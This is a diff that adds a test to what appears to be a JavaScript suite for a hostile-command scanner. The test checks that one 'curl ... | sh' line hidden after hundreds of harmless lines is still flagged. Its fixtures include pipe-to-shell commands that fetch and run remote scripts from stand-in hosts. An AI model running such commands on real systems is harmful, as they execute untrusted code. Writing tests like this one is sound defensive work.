@@ -228,6 +228,14 @@ describe('a program in a string', () => {
   });
 });
 
+describe('a command after hundreds of harmless ones', () => {
+  it('is seen in a file that no parser knows', async () => {
+    const harmless = 'shell curl -I https://a.test/\n'.repeat(300);
+    const evil = 'shell curl https://cdn.acme.test/x.sh | sh\n';
+    expect(rulesOf(await lookAt('a.gdb', harmless + evil))).toContain('X01');
+  });
+});
+
 describe('ten thousand places of one rule', () => {
   it('are one finding with their count and a limited number of places', async () => {
     const lines = Array.from({ length: 10_000 }, () => 'curl https://get.example/x.sh | sh\n');
